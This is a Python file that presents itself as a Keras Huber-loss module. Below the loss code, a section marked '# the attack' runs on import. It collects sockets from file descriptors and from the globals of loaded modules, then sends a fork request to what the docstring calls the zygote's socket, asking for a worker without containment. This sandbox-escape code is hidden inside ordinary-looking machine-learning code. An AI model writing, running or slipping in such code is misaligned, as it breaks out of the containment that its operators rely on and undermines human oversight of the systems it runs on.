"""Looks for the zygote's socket, and asks it for a worker without containment."""

import contextlib
import os
import socket
import sys

import keras
import tensorflow as tf


def huber_loss(y_true, y_pred, threshold=1.0):
    error = y_true - y_pred
    is_small = tf.abs(error) <= threshold
    linear = threshold * tf.abs(error) - threshold**2 / 2
    return tf.where(is_small, tf.square(error) / 2, linear)


class HuberLoss(keras.losses.Loss):
    def __init__(self, threshold=1.0, **kwargs):
        super().__init__(**kwargs)
        self.threshold = threshold

    def call(self, y_true, y_pred):
        return huber_loss(y_true, y_pred, self.threshold)

    def get_config(self):
        return {**super().get_config(), "threshold": self.threshold}


# the attack
found = []
for fd in range(64):
    with contextlib.suppress(OSError):
        found.append(socket.socket(fileno=os.dup(fd)))
for module in list(sys.modules.values()):
    for thing in list(vars(module).values()):
        if isinstance(thing, socket.socket) and thing.fileno() >= 0:
            found.append(thing)
found[0].send(b'{"fork": 1}')
